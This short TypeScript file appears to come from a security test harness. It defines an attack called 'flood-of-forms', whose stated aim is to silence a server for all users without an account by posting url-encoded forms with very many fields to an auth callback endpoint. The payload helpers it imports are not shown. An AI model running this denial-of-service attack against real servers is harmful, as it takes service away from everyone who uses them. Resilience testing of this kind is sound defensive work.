import { formOfManyFields } from '../requests/costly-forms.ts'
import { onTarget, type Attack } from '../runner/attack.ts'
import { silenceByForms } from '../target/silence-by-forms.ts'

export const floodOfForms: Attack = {
  name: 'flood-of-forms',
  aim: 'silence the server for everybody, without an account, by forms of very many fields',
  measuresTime: true,
  attempt: onTarget({}, (target) => {
    const headers = { 'content-type': 'application/x-www-form-urlencoded' }
    return silenceByForms(target, '/emulator/auth/callback', headers, formOfManyFields)
  }),
}
